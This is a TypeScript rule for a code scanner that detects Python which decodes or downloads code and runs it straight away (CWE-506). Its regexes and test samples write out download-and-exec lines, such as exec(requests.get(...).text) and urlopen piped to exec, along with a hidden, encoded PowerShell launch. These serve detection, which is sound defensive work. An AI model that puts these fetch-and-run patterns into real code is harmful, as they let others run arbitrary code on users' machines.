import { pythonRule } from './pythonRule.ts';

export const pythonHiddenCode = pythonRule({
  id: 'python-hidden-code',
  title: 'Code is decoded or downloaded and run at once',
  severity: 'critical',
  cwe: 'CWE-506',
  why: 'Encoding keeps readers from seeing what runs; downloading lets somebody else decide it later. Honest packages need neither.',
  remedy: 'Do not run it. Write the code in plain text.',
  call: (call) => {
    if (/^(?:os\.(?:system|popen)|subprocess\.(?:run|call|Popen|check_output|check_call|getoutput))$/.test(call.name))
      return /-c["'],\s*[rb]?["'][\s\S]*(?:exec|eval)\([\s\S]*(?:urlopen|b64decode|requests\.get|decompress)/.test(
        call.text,
      )
        ? { confidence: 'high' }
        : /powershell/i.test(call.text) &&
            /-e(?:nc|ncodedcommand|c)?["', ]+[A-Za-z0-9+/=]{8,}|downloadstring|downloadfile|\biex\b|frombase64string|-w(?:indowstyle)?["', ]+hidden/i.test(
              `${call.text} ${String(call.args[0]?.constant ?? call.args[0]?.prefix ?? '')}`,
            )
          ? { confidence: 'high' }
          : undefined;
    if (!/^(?:builtins\.)?(?:exec|eval)$/.test(call.name)) return undefined;
    const text = `${call.args[0]?.text ?? ''} ${call.args[0]?.call ?? ''}`;
    const decoded =
      /b(?:ase)?(?:16|32|64|85)\w*decode|a2b_|zlib\.decompress|lzma\.decompress|bz2\.decompress|gzip\.decompress|codecs\.decode|bytes\.fromhex|marshal\.loads|fernet|\.decrypt\(|rot13|\[::-1\]/i.test(
        text,
      );
    const fetched =
      /requests\.get|urlopen|httpx\.get|urllib\.request|\.read\(\)\.decode/i.test(text) && /http|url|get\(/i.test(text);
    return decoded || (fetched && /requests|urlopen|httpx/.test(text)) ? { confidence: 'high' } : undefined;
  },
  bad: [
    "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import urllib.request as u;exec(u.urlopen(x).read())'])",
    "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAAAAA', shell=True)",
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "import requests\nexec(requests.get('https://x.dev/p').text)",
    'import zlib, base64\nexec(zlib.decompress(base64.b64decode(blob)))',
  ],
  good: [
    "import subprocess\nsubprocess.run(['powershell', '-Command', 'Get-Date'])",
    "import base64\nprint(base64.b64decode('cHJpbnQoMSk='))",
    "exec(open('version.py').read())",
    "exec(compile(source, 'a', 'exec'))",
  ],
});
